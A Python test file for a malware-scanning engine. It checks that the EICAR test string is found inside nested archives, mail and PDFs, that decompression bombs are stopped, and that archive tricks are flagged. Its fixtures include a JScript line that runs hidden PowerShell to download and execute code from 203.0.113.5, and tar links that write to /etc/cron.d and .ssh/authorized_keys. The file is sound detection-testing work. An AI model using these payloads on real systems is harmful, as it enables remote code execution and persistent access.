"""Unpacking: every container gives its member to the engine, and bombs stop early."""

from __future__ import annotations

import base64
import bz2
import contextlib
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
import zstandard
from hypothesis import given
from hypothesis import strategies as st

from safecare.examine.api import Verdicts
from safecare.examine.engine import Engine, analysers
from safecare.examine.unpack.arj import unpack
from safecare.examine.unpack.inflate64 import inflate64
from safecare.examine.unpack.texts import blocks, unbinhex
from safecare.testing.bombs import BOMBS

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ENGINE = Engine()


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, raw in members.items():
            archive.writestr(name, raw)
    return out.getvalue()


def tarred(name: str, raw: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.size = len(raw)
        archive.addfile(info, io.BytesIO(raw))
    return out.getvalue()


def cpio(raw: bytes) -> bytes:
    head = "070707" + "0" * 48 + "0" * 5 + f"{6:06o}" + f"{len(raw):011o}"
    return head.encode() + b"a.txt\0" + raw


def uuencoded(raw: bytes) -> bytes:
    import binascii

    lines = b"".join(binascii.b2a_uu(raw[place : place + 45]) for place in range(0, len(raw), 45))
    return b"begin 644 a.txt\n" + lines + b"`\nend\n"


def mail(body: bytes) -> bytes:
    return (
        b"From: a@b.example\nTo: c@d.example\nSubject: x\nMIME-Version: 1.0\n"
        b'Content-Type: application/octet-stream; name="a.bin"\nContent-Transfer-Encoding: base64\n\n'
        + base64.encodebytes(body)
    )


def pdf(body: bytes) -> bytes:
    packed = zlib.compress(body)
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n2 0 obj<</Type/EmbeddedFile/Filter/FlateDecode/Length "
        + str(len(packed)).encode()
        + b">>stream\n"
        + packed
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF"
    )


CONTAINERS = {
    "zip": zipped({"a.txt": EICAR}),
    "zip, stored": zipped({"a.txt": EICAR}, zipfile.ZIP_STORED),
    "zip, bzip2": zipped({"a.txt": EICAR}, zipfile.ZIP_BZIP2),
    "zip, lzma": zipped({"a.txt": EICAR}, zipfile.ZIP_LZMA),
    "zip without its directory": zipped({"a.txt": EICAR}).split(b"PK\1\2")[0],
    "zip behind a picture": b"GIF89a" + bytes(100) + zipped({"a.txt": EICAR}),
    "tar": tarred("a.txt", EICAR),
    "cpio, odc": cpio(EICAR),
    "gzip": gzip.compress(EICAR),
    "two gzip streams": gzip.compress(b"harmless") + gzip.compress(EICAR),
    "bzip2": bz2.compress(EICAR),
    "xz": lzma.compress(EICAR),
    "zstd": zstandard.compress(EICAR),
    "tar in gzip in zip": zipped({"a.tgz": gzip.compress(tarred("a.txt", EICAR))}),
    "uuencode": uuencoded(EICAR),
    "zlib in unknown data": b"\xf3\x01\x02" * 20 + zlib.compress(EICAR + bytes(100)),
    "mail": mail(EICAR),
    "zip in mail": mail(zipped({"a.txt": EICAR})),
    "pdf": pdf(EICAR),
    "zip in pdf in zip in mail": mail(zipped({"a.pdf": pdf(zipped({"a.txt": EICAR}))})),
}


@pytest.mark.parametrize("name", CONTAINERS)
def test_what_is_inside_is_found(name: str) -> None:
    verdict = ENGINE.judge(CONTAINERS[name])
    assert verdict.verdict is Verdicts.MALICIOUS, verdict
    assert any(one.rule == "rule.eicar_test_file" for one in verdict.findings)


LIMITED = ("limit.", "dicom.limit", "xml.bomb", "office.limit", "mail.limit")
"""Beginnings of rules that say that a file was judged in part."""
WHOLE = (
    *(
        "zip, many small",
        "iso",
        "tar, many",
        "pdf, ASCII85",
        "pdf, references",
        "pdf, unending",
        "pdf, cross-reference",
    ),
    *(
        "pdf, names",
        "pdf, strings",
        "pdf, links",
        "pdf, files named",
        "ooxml, relations",
        "ooxml, many",
        "ooxml, parts",
    ),
    *(
        "rtf, words",
        "rtf, groups",
        "hl7, fields",
        "hl7, escapes",
        "hl7, many",
        "hl7, messages",
        "xml, attributes",
        "xml, blocks",
    ),
    *("base64", "html, tags", "html, forms", "html, scripts", "script", "text, lines", "flat", "csv", "sylk", "yara"),
    *(
        "dicom, frames",
        "dicom, small",
        "program",
        "binhex",
        "mail, large",
        "mail, pictures",
        "page, ",
        "picture",
        "fhir, resources",
    ),
)
"""Beginnings of the names of bombs that are only slow for others: they are judged whole."""


@pytest.mark.slow
@pytest.mark.timeout(60)  # unbounded, each takes minutes or all memory; the bench holds the second
@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_stopped_and_told(name: str) -> None:
    file, make = BOMBS[name]
    verdict = ENGINE.judge(make(), file)
    rules = [one.rule for one in verdict.findings]
    assert not [one for one in rules if one.endswith(".failed")], verdict
    assert name.startswith(WHOLE) or any(one.startswith(LIMITED) for one in rules), verdict


def test_an_archive_that_only_is_encrypted_is_no_alarm(tmp_path: Path) -> None:
    raw = bytearray(zipped({"a.txt": b"words" * 40}, zipfile.ZIP_STORED))
    raw[6] |= 1
    raw[raw.find(b"PK\1\2") + 8] |= 1
    only_said = bytes(raw)
    raw[35:55] = bytes(one ^ 0x5A for one in raw[35:55])
    verdict = ENGINE.judge(bytes(raw))
    assert (verdict.verdict, [one.rule for one in verdict.findings]) == (Verdicts.CLEAN, ["archive.encrypted"])
    assert [one.rule for one in ENGINE.judge(only_said).findings] == ["archive.false-lock"]


def rules(raw: bytes, name: str = "") -> list[str]:
    return [one.rule for one in ENGINE.judge(raw, name).findings]


SCRIPT = b'new ActiveXObject("WScript.Shell").Run("powershell -nop -w hidden -c IEX(irm http://203.0.113.5/a)")'


def test_members_that_the_directory_leaves_out_are_judged() -> None:
    seen = zipped({"a.js": SCRIPT})
    assert ENGINE.judge(seen).verdict is not Verdicts.CLEAN
    assert ENGINE.judge(seen + zipped({"a.txt": b"words" * 40})).verdict is ENGINE.judge(seen).verdict
    twice = zipped({"a.txt": b"words" * 40}) + zipped({"b.txt": b"other words" * 40})
    assert rules(twice + zipped({"in.zip": twice}, zipfile.ZIP_STORED)) == []


def test_a_packing_method_that_there_is_not_and_one_that_differs_are_told() -> None:
    raw = bytearray(zipped({"a.txt": b"words" * 40}))
    raw[8] = 77
    assert rules(bytes(raw)) == ["archive.methods-differ"]
    raw[raw.find(b"PK\1\2") + 10] = 77
    assert rules(bytes(raw)) == ["archive.false-method"]


def test_a_member_whose_size_is_told_as_nothing_is_unpacked() -> None:
    raw = bytearray(zipped({"a.js": SCRIPT}))
    at = raw.find(b"PK\1\2")
    raw[18:26] = raw[at + 20 : at + 28] = bytes(8)
    raw[6] |= 8
    raw[at + 8] |= 8
    assert ENGINE.judge(bytes(raw)).verdict is not Verdicts.CLEAN


def test_what_is_written_through_a_link_of_the_archive_is_told() -> None:
    def tape(target: str, name: str, kind: bytes = tarfile.SYMTYPE) -> bytes:
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w") as archive:
            link, member = tarfile.TarInfo("l"), tarfile.TarInfo(name)
            link.type, link.linkname, member.size = kind, target, 5
            archive.addfile(link)
            archive.addfile(member, io.BytesIO(b"words"))
        return out.getvalue()

    assert rules(tape("/etc", "l/cron.d/x")) == ["archive.traversal"]
    assert rules(tape("../../.ssh/authorized_keys", "a.txt", tarfile.LNKTYPE)) == ["archive.traversal"]
    for honest in (tape("/etc/alternatives/awk", "a.txt"), tape("lib", "l/a.txt"), tape("a.txt", "b", tarfile.LNKTYPE)):
        assert rules(honest) == []


def test_a_program_named_like_an_archive_is_told() -> None:
    program = b"MZ".ljust(60, b"\0") + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(200)
    assert "name.false" in rules(program + zipped({"a.txt": b"words"}), "a.zip")
    assert "name.false" not in rules(program + zipped({"a.txt": b"words"}), "a.exe")


def test_tricks_of_archives_are_told() -> None:
    raw = zipped({"harmless.txt": b"a" * 50}).replace(b"harmless.txt", b"harmful0.exe", 1)
    assert "archive.names-differ" in [one.rule for one in ENGINE.judge(raw).findings]
    assert "archive.traversal" in [one.rule for one in ENGINE.judge(zipped({"../../x": b"a"})).findings]


@pytest.mark.parametrize(
    "name",
    [
        *("clam.d64.zip", "clam.impl.zip", "clam.arj", "clam-nsis.exe", "clam-upx.exe", "clam.7z", "clam.chm"),
        *("clam.ea05.exe", "clam.ea06.exe", "clam_ISmsi_int.exe", "clam_ISmsi_ext.exe"),
    ],
)
def test_old_packers_of_clamav_test_files(name: str) -> None:
    path = Path("/usr/share/clamav-testfiles") / name
    if not path.exists():
        pytest.skip("Debian's clamav-testfiles is not installed")
    assert "rule.clamav_test_file" in [one.rule for one in ENGINE.judge(path.read_bytes()).findings]


def test_every_analyser_has_what_it_needs_here() -> None:
    assert analysers().missing == []


@given(st.sampled_from(sorted(CONTAINERS)), st.integers(0, 5000), st.binary(max_size=8))
def test_damaged_containers_have_a_verdict(name: str, place: int, raw: bytes) -> None:
    whole = CONTAINERS[name]
    at = place % len(whole)
    verdict = ENGINE.judge(whole[:at] + raw + whole[at + len(raw) :])
    assert not [one for one in verdict.findings if one.rule.endswith(".failed")], verdict


def test_lzma_in_zip_with_properties_that_no_writer_gives_is_damage() -> None:
    whole = CONTAINERS["zip, lzma"]
    verdict = ENGINE.judge(whole[:19] + bytes(8) + whole[27:])  # the data begins with the name: lc 8, lp 2
    assert "zip.failed" not in [one.rule for one in verdict.findings]


@given(st.binary(max_size=300))
def test_bit_readers_end_with_a_declared_error(raw: bytes) -> None:
    from safecare.examine.api import LimitError, UnreadableError
    from safecare.examine.unpack.installers import nrv2

    with contextlib.suppress(LimitError, UnreadableError):
        assert len(inflate64(raw, 5000)) <= 70_000
    with contextlib.suppress(LimitError, UnreadableError):
        assert len(unpack(raw, 5000)) <= 5000
    for method in (2, 5, 8):
        with contextlib.suppress(LimitError, UnreadableError):
            assert len(nrv2(raw, 5000, method)) <= 5000
    unbinhex(b"(This file must be converted with BinHex 4.0)\n:" + raw + b":", 0)


def test_blocks_of_coded_text_are_found_in_any_surroundings() -> None:
    lines = base64.encodebytes(bytes(range(256)) * 3)
    for text in (lines, b"word\r\n" + lines.replace(b"\n", b"\r\n") + b"more text", b"x: " + lines.replace(b"\n", b"")):
        found = [base64.b64decode(b"".join(one.split())) for one in blocks(text)]
        assert found == [bytes(range(256)) * 3], text
    assert not list(blocks(b"A" * 59 + b"\n" + b"word " * 100))


@given(st.binary(max_size=600))
def test_blocks_never_fail(raw: bytes) -> None:
    assert sum(map(len, blocks(raw))) <= len(raw)
    assert sum(map(len, blocks(base64.encodebytes(raw) * 2))) <= 4 * len(raw) + 4


@pytest.mark.parametrize("pack", [gzip.compress, bz2.compress, lzma.compress, zstandard.compress])
def test_a_second_stream_is_read_too(pack: Callable[[bytes], bytes]) -> None:
    verdict = ENGINE.judge(pack(b"harmless") + pack(EICAR))
    assert verdict.verdict is Verdicts.MALICIOUS, verdict


def test_text_that_is_coded_twice_is_opened() -> None:
    raw = base64.encodebytes(base64.encodebytes(zipped({"a.txt": EICAR + bytes(range(256)) * 4})))
    assert ENGINE.judge(raw, "a.txt").verdict is Verdicts.MALICIOUS


def test_a_solid_archive_of_rar_3_stays_closed_says_so_and_its_names_are_judged() -> None:
    def block(kind: int, flags: int, body: bytes, data: bytes = b"") -> bytes:
        head = bytes([kind]) + struct.pack("<HH", flags, 7 + len(body)) + body
        return struct.pack("<H", zlib.crc32(head) & 0xFFFF) + head + data

    name, data = b"invoice.pdf.exe", bytes(40)
    file = struct.pack("<IIBIIBBHI", 40, 90, 0, 1, 0, 29, 0x33, len(name), 32) + name
    raw = b"Rar!\x1a\7\0" + block(0x73, 8, bytes(6)) + block(0x74, 0x8010, file, data) + block(0x7B, 0x4000, b"")
    rules = {one.rule: one for one in ENGINE.judge(raw, "a.rar").findings}
    assert rules["archive.partly"].unreadable
    assert rules["name.double"].where.part == "invoice.pdf.exe"


def test_honest_files_that_pack_very_well_are_looked_at_whole_and_are_no_alarm() -> None:
    log = b"2026-03-02 08:00:00 INFO gateway: nothing to tell\n" * 450_000
    table = b"stay;ward;date;code\r\n" + b"0000000;0000;2026-01-01;\r\n" * 900_000
    disc = bytes(510) + b"\x55\xaa" + bytes(20_000_000)
    for honest in (
        gzip.compress(log),
        zipped({"a.csv": table}),
        zipped({"a.img": disc}),
        gzip.compress(tarred("a.log", log)),
    ):
        assert 100 * len(honest) < 20_000_000
        assert (ENGINE.judge(honest).verdict, rules(honest)) == (Verdicts.CLEAN, [])
    hidden = gzip.compress(log + EICAR)
    assert ENGINE.judge(hidden).verdict is Verdicts.MALICIOUS
    assert rules(gzip.compress(log * 4)) == ["limit.member"]
    assert rules(gzip.compress(bytes(40_000_000))) == ["limit.size"]
